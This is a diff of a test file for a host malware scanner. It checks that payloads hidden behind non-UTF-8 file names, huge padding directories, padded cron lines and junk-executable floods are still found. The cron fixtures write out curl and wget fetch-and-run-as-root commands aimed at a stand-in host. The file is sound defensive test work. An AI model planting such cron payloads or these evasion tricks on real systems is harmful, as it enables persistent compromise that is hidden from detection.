@@ -278,7 +278,7 @@ function buildSwappedDirs(outside: Outside): FakeRoot {
   return r;
 }
 
-function assertSafe(out: Awaited<ReturnType<typeof scan>>, ms: number) {
+function assertSafe(out: Awaited<ReturnType<typeof scan>>) {
   const { result, snapshot } = out;
   assert.deepEqual(result.stats.ruleErrors, [], 'a rule threw');
   const failed = result.gaps.filter((g) => g.reason.startsWith('collector failed'));
@@ -292,9 +292,8 @@ function assertSafe(out: Awaited<ReturnType<typeof scan>>, ms: number) {
   }
   const text = renderTerminal(result, { lang: 'en', color: false, minSeverity: 'info' });
   assert.equal(/[\x00-\x08\x0b-\x1f\x7f-\x9f]/.test(text), false, 'a control character reached the terminal');
-  // Rules get their own budget; collectors must not spend seconds on attacker-sized input.
-  assert.ok(result.stats.timings.collectMs < 8000, `collecting took ${result.stats.timings.collectMs} ms`);
-  assert.ok(ms < 30_000, `scan took ${ms} ms`);
+  // How long collectors spend on attacker-sized input is measured by `npm run bench` (hostile image
+  // row), not asserted here: a wall-clock limit fails on a loaded machine, not on a slow collector.
 }
 
 describe('hostile offline image', () => {
@@ -308,26 +307,108 @@ describe('hostile offline image', () => {
   it('every collector path filled with junk, huge lines, links out, FIFOs, devices and loops', async () => {
     const r = buildImage(outside);
     roots.push(r);
-    const t0 = performance.now();
     const out = await scan({ root: r.dir, sampleMs: 0 });
-    const ms = performance.now() - t0;
-    assertSafe(out, ms);
+    assertSafe(out);
     // The image really was hostile where collectors look: they recorded what they could not read.
     assert.ok(out.result.gaps.length > 20, `${out.result.gaps.length} gaps`);
-    // A name that is not UTF-8 cannot be examined (yet), but it must not pass unnoticed.
+    // A name that is not UTF-8 is examined like any other.
     assert.ok(
-      out.result.gaps.some((g) => g.path === '/tmp/\ufffd\ufffdA' && /not valid UTF-8/.test(g.reason)),
-      'a non-UTF-8 name was skipped silently',
+      out.snapshot.facts.fileInventory?.entries.some((e) => e.path === '/tmp/\udcff\udcfeA' && e.magic === 'data'),
+      'a non-UTF-8 name was not examined',
     );
-    const slow = Object.entries(out.result.stats.timings.collectors).filter(([, v]) => v > 2000);
-    assert.deepEqual(slow, [], 'a collector spent seconds on attacker-sized input');
   });
 
   it('every directory collectors list replaced by a link out, a file, a FIFO or a loop', async () => {
     const r = buildSwappedDirs(outside);
     roots.push(r);
-    const t0 = performance.now();
     const out = await scan({ root: r.dir, sampleMs: 0 });
-    assertSafe(out, performance.now() - t0);
+    assertSafe(out);
+  });
+});
+
+// The ways a payload was once hidden from the scan while it printed "No findings": each is now
+// found, or, where a budget had to stop the scan, reported as a gap naming the path.
+describe('evasion: payloads hidden behind names, padding and floods', () => {
+  const ELF_BYTES = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120, 1)]);
+  const roots: FakeRoot[] = [];
+  after(() => {
+    for (const r of roots) r.remove();
+  });
+  // In memory where there is /dev/shm: 200,000 creates on a shared, busy disk took minutes.
+  const memory = fs.existsSync('/dev/shm') ? '/dev/shm' : os.tmpdir();
+  function fresh(prefix: string): FakeRoot {
+    const r = new FakeRoot(prefix, memory).base();
+    roots.push(r);
+    return r;
+  }
+  const hits = (out: Awaited<ReturnType<typeof scan>>, rule: string) =>
+    out.result.findings.filter((f) => f.rule === rule).map((f) => `${f.severity} ${f.path}`);
+
+  it('a dropper whose file name is not UTF-8 is examined, reported and shown escaped', async () => {
+    const r = fresh('hostsweep-evasion-name-');
+    r.mkdir('/tmp');
+    fs.writeFileSync(Buffer.concat([Buffer.from(r.p('/tmp/')), Buffer.from([0xff, 0xfe, 0x2e, 0x6b])]), ELF_BYTES, { mode: 0o755 });
+    const out = await scan({ root: r.dir, sampleMs: 0 });
+    assert.deepEqual(hits(out, 'files/executable-in-temp'), ['high /tmp/\udcff\udcfe.k']);
+    assert.equal(
+      out.result.gaps.some((g) => /UTF-8/.test(g.reason)),
+      false,
+      JSON.stringify(out.result.gaps),
+    );
+    const text = renderTerminal(out.result, { lang: 'en', color: false, minSeverity: 'info' });
+    assert.ok(text.includes('/tmp/\\xff\\xfe.k'), 'the name is shown with its raw bytes escaped');
+    assert.equal(
+      /[\ud800-\udfff]/.test(text.replace(/[\ud800-\udbff][\udc00-\udfff]/g, '')),
+      false,
+      'a lone surrogate reached the terminal',
+    );
+  });
+
+  it('an ELF in a directory of 200,000 entries is found', async () => {
+    const r = fresh('hostsweep-evasion-big-');
+    r.mkdir('/tmp/.cache');
+    const dir = r.p('/tmp/.cache');
+    for (let i = 0; i < 200_000; i++) fs.closeSync(fs.openSync(`${dir}/${String(i).padStart(6, '0')}`, 'w'));
+    r.write('/tmp/.cache/zz-kdevtmpfsi', ELF_BYTES, { mode: 0o755 });
+    const out = await scan({ root: r.dir, sampleMs: 0 });
+    assert.deepEqual(hits(out, 'files/executable-in-temp'), ['high /tmp/.cache/zz-kdevtmpfsi']);
+    // What was not kept is said, with the directory's name.
+    assert.ok(
+      out.result.gaps.some((g) => g.path === '/tmp/.cache' && /200001 entries; past the first 5000 only executables/.test(g.reason)),
+      JSON.stringify(out.result.gaps),
+    );
+    // The padding did not flood the facts.
+    const kept = out.snapshot.facts.fileInventory?.entries.filter((e) => e.path.startsWith('/tmp/.cache/')).length ?? 0;
+    assert.ok(kept <= 5001, `${kept} entries kept`);
+  });
+
+  it('a cron payload after 20 KB of padding is found; one padded on both sides is a gap naming the file', async () => {
+    const r = fresh('hostsweep-evasion-cron-');
+    r.write('/etc/cron.d/sysstat', `*/5 * * * * root ${' '.repeat(20_000)}curl -fsSL http://203.0.113.9/ldr.sh | sh\n`);
+    r.write(
+      '/etc/cron.d/php',
+      `*/5 * * * * root ${'true; '.repeat(4000)}wget -q -O- http://203.0.113.9/x | bash; ${'true; '.repeat(4000)}\n`,
+    );
+    const out = await scan({ root: r.dir, sampleMs: 0 });
+    const found = hits(out, 'persistence/cron-download-exec');
+    assert.ok(found.includes('critical /etc/cron.d/sysstat'), found.join('\n'));
+    const gaps = out.result.gaps.filter((g) => g.collector === 'cronJobs').map((g) => `${g.path}: ${g.reason}`);
+    assert.ok(
+      gaps.includes('/etc/cron.d/php: line 1 is 48058 characters long: only its first and last 8192 were examined'),
+      gaps.join('\n'),
+    );
+    assert.equal(gaps.filter((g) => g.startsWith('/etc/cron.d/sysstat')).length, 1, 'the cut line of the padded file is said too');
+  });
+
+  it('10,000 junk executables in /tmp do not demote a real ELF', async () => {
+    const r = fresh('hostsweep-evasion-flood-');
+    for (let i = 0; i < 10_000; i++) r.write(`/tmp/j${i}`, `junk ${i}\n`, { mode: 0o755 });
+    r.write('/tmp/kthreaddk', ELF_BYTES, { mode: 0o755 });
+    const out = await scan({ root: r.dir, sampleMs: 0 });
+    const real = out.result.findings.filter((f) => f.path === '/tmp/kthreaddk');
+    assert.deepEqual(
+      real.map((f) => `${f.rule} ${f.severity}`),
+      ['files/executable-in-temp high'],
+    );
   });
 });
